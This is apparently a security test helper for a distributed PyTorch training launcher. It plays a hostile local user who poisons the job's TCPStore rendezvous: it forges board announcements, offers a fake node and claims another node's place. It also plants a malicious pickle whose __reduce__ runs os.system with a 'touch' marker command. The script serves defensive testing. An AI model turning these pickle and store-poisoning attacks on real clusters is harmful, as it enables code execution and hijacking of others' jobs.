"""Another local user's attacks on a running multi-node job (run through setpriv as uid 65534).

argv: rendezvous_port run_id marker_path. With nothing but network access to the stores it:
1. waits for the job's worker-store record in the c10d rendezvous store and finds the worker store;
2. writes an in-place announcement that makes the group shrink to n0 alone (world size 1), under the
   board's old key and as a well-formed board document (launch/inplace/board_state.py) without the job's seal
   under its key, which also offers a fake node ``fake`` for a free place and claims n1's place;
3. offers ``fake`` under the old keys too, and says it is ready for any invitation;
4. replaces the pickled rendezvous state with a pickle that runs ``touch marker_path``, several
   times over a few seconds so that every agent's keep-alive reads it.
It prints what it did; any of these taken by the job is the test's failure."""

import base64
import json
import os
import pickle
import sys
import time
from datetime import timedelta

from torch.distributed import TCPStore

PORT, RUN_ID, MARKER = int(sys.argv[1]), sys.argv[2], sys.argv[3]


class Touch:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def main() -> None:
    rdzv = TCPStore("127.0.0.1", PORT, None, False, timeout=timedelta(seconds=60), wait_for_workers=False)
    key = f"stalwart/workers/{RUN_ID}"
    rdzv.wait([key])
    raw = rdzv.get(key)
    record = json.loads(raw[raw.index(b"{") :])  # readable, signed or not: the payload follows the MAC
    workers = TCPStore(
        record["addr"], record["port"], None, False, timeout=timedelta(seconds=30), wait_for_workers=False
    )
    alone = {"generation": 50, "node": "n0", "ranks": [], "world_size": 1, "active": ["n0"]}
    workers.set("stalwart/inplace/announce", json.dumps(alone))
    board = {
        "schema": 1,
        "version": 1000,
        "announcement": alone,
        "group": {"generation": 50, "node": "n0", "world_size": 1, "active": ["n0"]},
        "invitation": None,
        "offers": [{"node": "fake", "seq": 1, "standing": True}],
        "ready": {"fake": 51},
        "waiting": {},
        "refusal": None,
        "claims": {"n1": "fake"},
    }
    workers.set("stalwart/inplace/board", json.dumps(board))
    workers.append("stalwart/inplace/offers", "+fake\n")
    workers.add("stalwart/inplace/version", 1)
    print("announced a shrink to n0 alone and offered node fake", flush=True)
    evil = base64.b64encode(pickle.dumps(Touch()))
    until = time.monotonic() + 6.0
    while time.monotonic() < until:
        rdzv.set(f"torch.rendezvous.{RUN_ID}", evil)
        if workers.check(["stalwart/inplace/invite"]):
            invite = workers.get("stalwart/inplace/invite")
            gen = json.loads(invite[invite.index(b"{") :]).get("generation", 0)
            workers.set("stalwart/inplace/ready/fake", str(gen))
            workers.add("stalwart/inplace/version", 1)
        time.sleep(0.3)
    print("planted the rendezvous state pickle", flush=True)


main()
